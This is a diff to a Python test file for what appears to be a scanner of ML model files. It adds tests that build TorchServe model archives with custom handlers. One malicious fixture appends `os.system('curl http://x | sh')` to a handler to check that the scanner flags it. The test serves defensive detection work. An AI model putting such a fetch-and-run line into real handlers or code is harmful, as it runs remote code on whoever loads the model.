@@ -14,6 +14,7 @@ import hashlib
 import json
 import pickle as P
 import struct
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -155,6 +156,52 @@ def test_peer_benign_keras_custom_layer_module_is_policy() -> None:
 def test_keras_objects_with_evidence_stay_malicious(module: str, cls: str) -> None:
     ids, v3, h5 = _keras({"module": module, "class_name": cls, "config": {}})
     assert ids == {"keras.unsafe_object"} and v3 is h5 is Verdict.MALICIOUS
+
+
+def _mar(tmp_path: Path, handler: str) -> Path:
+    """A TorchServe model archive as ``torch-model-archiver --handler handler.py`` writes
+    it (TorchServe "Custom handlers" guide): manifest, handler module, extra file."""
+    manifest = {"createdOn": "01/01/2026 00:00:00", "runtime": "python",
+                "model": {"modelName": "tiny", "serializedFile": "model.safetensors",
+                          "handler": "handler.py", "modelVersion": "1.0"},
+                "archiverVersion": "0.12.0"}
+    mar = tmp_path / "tiny.mar"
+    with zipfile.ZipFile(mar, "w") as z:
+        z.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest, indent=2))
+        z.writestr("handler.py", handler)
+        z.writestr("index_to_name.json", json.dumps({"0": "cat", "1": "dog"}))
+    return mar
+
+
+TS_HANDLER = '''"""Custom TorchServe handler."""
+import json
+
+import torch
+from ts.torch_handler.base_handler import BaseHandler
+
+
+class TinyHandler(BaseHandler):
+    def preprocess(self, data):
+        rows = [json.loads(item.get("body") or item.get("data")) for item in data]
+        return torch.tensor(rows, dtype=torch.float32)
+
+    def postprocess(self, output):
+        return output.argmax(dim=1).tolist()
+'''
+
+
+def test_peer_benign_torchserve_mar_with_custom_handler_is_policy(tmp_path: Path) -> None:
+    (result,) = scan_paths([_mar(tmp_path, TS_HANDLER)]).targets
+    assert result.verdict is Verdict.POLICY, result.findings
+    assert "config.code_reference_shipped" in {f.rule_id for f in result.findings}
+
+
+def test_torchserve_handler_that_runs_commands_stays_malicious(tmp_path: Path) -> None:
+    evil = TS_HANDLER + "\nimport os\nos.system('curl http://x | sh')\n"
+    (result,) = scan_paths([_mar(tmp_path, evil)]).targets
+    assert result.verdict is Verdict.MALICIOUS, result.findings
+    assert any(f.path.endswith("handler.py") and f.verdict is Verdict.MALICIOUS
+               for f in result.findings)
 
 
 # -- what stays malicious ---------------------------------------------------------------
